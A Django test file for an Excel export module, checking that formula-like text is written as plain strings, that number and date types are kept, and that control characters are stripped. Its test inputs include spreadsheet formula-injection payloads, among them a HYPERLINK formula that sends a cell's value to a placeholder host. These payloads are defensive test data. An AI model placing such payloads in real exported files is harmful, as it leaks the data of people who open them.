"""The shared Excel writer: text stays text whatever it starts with; numbers and dates keep their types."""

import re
import tempfile
from datetime import date, datetime
from decimal import Decimal
from io import BytesIO
from pathlib import Path

from django.test import SimpleTestCase
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from smedx.core import excel

FORMULA_LIKE = [
    '=HYPERLINK("http://x/?"&B2,"点击")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]
SMEDX = Path(excel.__file__).resolve().parent.parent


def cells(content):
    sheet = load_workbook(BytesIO(content)).worksheets[0]
    return [list(row) for row in sheet.iter_rows()]


class ExcelWriterTests(SimpleTestCase):
    def test_it_writes_formula_like_text_as_text_in_a_streamed_workbook(self):
        content = excel.table_workbook("表", ["名称"], [[text] for text in FORMULA_LIKE])

        _header, *rows = cells(content)
        self.assertEqual([(row[0].data_type, row[0].value) for row in rows], [("s", t) for t in FORMULA_LIKE])

    def test_it_writes_formula_like_text_as_text_in_a_styled_workbook(self):
        book = excel.new_workbook(streaming=False)
        for text in FORMULA_LIKE:
            excel.append(book.active, [text])

        rows = cells(excel.to_bytes(book))
        self.assertEqual([(row[0].data_type, row[0].value) for row in rows], [("s", t) for t in FORMULA_LIKE])

    def test_it_keeps_numbers_dates_and_lazy_texts(self):
        values = [
            120,
            5000.5,
            Decimal("1.25"),
            datetime(2025, 3, 1, 9, 30),
            date(2025, 3, 1),
            gettext_lazy("Yes"),
        ]
        content = excel.table_workbook("表", ["a", "b", "c", "d", "e", "f"], [values, [None, "x"]])

        _header, row, sparse = cells(content)
        self.assertEqual([cell.data_type for cell in row], ["n", "n", "n", "d", "d", "s"])
        self.assertEqual([cell.value for cell in row[:4]], [120, 5000.5, 1.25, datetime(2025, 3, 1, 9, 30)])
        self.assertEqual(row[5].value, "Yes")
        self.assertEqual([cell.value for cell in sparse[:2]], [None, "x"])

    def test_it_streams_a_table_to_a_file_and_tells_the_progress(self):
        told = []
        with tempfile.TemporaryFile() as out:
            written = excel.write_table(
                out, "表", ["名称", "数"], ([f"=A{n}", n] for n in range(7)), progress=told.append, every=3
            )
            out.seek(0)
            _header, *rows = cells(out.read())
        self.assertEqual((written, told), (7, [3, 6]))
        self.assertEqual([(row[0].data_type, row[0].value, row[1].value) for row in rows[:2]], [
            ("s", "=A0", 0), ("s", "=A1", 1)
        ])  # fmt: skip

    def test_it_drops_the_control_characters_a_workbook_cannot_hold(self):
        content = excel.table_workbook("表", ["名称"], [["重庆\x01机械\x1f厂"], ["换行\n保留"]])

        _header, *rows = cells(content)
        self.assertEqual([row[0].value for row in rows], ["重庆机械厂", "换行\n保留"])

    def test_it_is_the_only_place_that_creates_workbooks(self):
        creates = re.compile(r"\bWorkbook\(|from openpyxl import .*\bWorkbook\b")
        offenders = [
            str(path.relative_to(SMEDX))
            for path in SMEDX.rglob("*.py")
            if "tests" not in path.parts
            and path != SMEDX / "core" / "excel.py"
            and creates.search(path.read_text())
        ]
        self.assertEqual(offenders, [])
